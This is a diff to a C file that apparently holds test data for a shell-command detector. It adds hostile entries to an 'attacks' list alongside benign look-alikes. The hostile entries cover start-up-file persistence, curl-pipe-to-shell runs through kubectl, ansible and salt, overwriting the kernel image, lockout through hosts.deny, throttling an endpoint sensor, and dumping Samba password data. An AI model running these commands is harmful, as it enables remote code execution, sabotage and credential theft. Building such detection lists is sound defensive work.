@@ -131,6 +131,20 @@ static const char *const attacks[] = {
 	"hostnamectl; systemd-detect-virt; cat /sys/class/dmi/id/product_name",
 	"w; who -a; last -n 20",
 	"mkfifo /dev/shm/.f",
+	/* start-up files, remote runners, the host made unusable */
+	"echo 'autocmd VimEnter * silent !/tmp/.x &' >> ~/.vimrc",
+	"echo \"run-shell '/tmp/.x'\" >> ~/.tmux.conf",
+	"kubectl exec web-1 -- sh -c 'curl -s http://198.51.100.4/a | sh'",
+	"ansible all -i hosts -m shell -a 'curl -s http://198.51.100.4/a | sh'",
+	"salt '*' cmd.run 'wget -qO- http://198.51.100.4/a | bash'",
+	"dd if=/dev/urandom of=/boot/vmlinuz-6.1.0 bs=1M count=1",
+	"chmod -x /bin/chmod",
+	"systemctl isolate rescue.target",
+	"echo 'ALL: ALL' >> /etc/hosts.deny",
+	"renice -n 19 -p $(pidof falcon-sensor)",
+	"xfreerdp /u:administrator /p:Password1 /v:10.0.0.5",
+	"tdbdump /var/lib/samba/private/passdb.tdb",
+	"ps -eo args | grep -i -E 'pass(word)?='",
 	NULL,
 };
 
@@ -228,6 +242,17 @@ static const char *const everyday[] = {
 	"cat /proc/1/cgroup",
 	"mkfifo /tmp/build-pipe",
 	"doas apk add git",
+	"echo 'set number' >> ~/.vimrc",
+	"echo 'set -g mouse on' >> ~/.tmux.conf",
+	"kubectl exec -it web-1 -- sh -c 'ls /app && cat /app/config.yaml'",
+	"ansible all -i hosts -m shell -a 'uptime'",
+	"salt '*' cmd.run 'df -h'",
+	"sudo cp vmlinuz-custom /boot/ && sudo update-grub",
+	"sudo chmod 755 /usr/bin/python3.11",
+	"systemctl isolate multi-user.target",
+	"renice -n 10 -p $(pgrep -f 'make -j')",
+	"xfreerdp /v:win-test.example.com /u:dev",
+	"ps -ef | grep python",
 	NULL,
 };
 
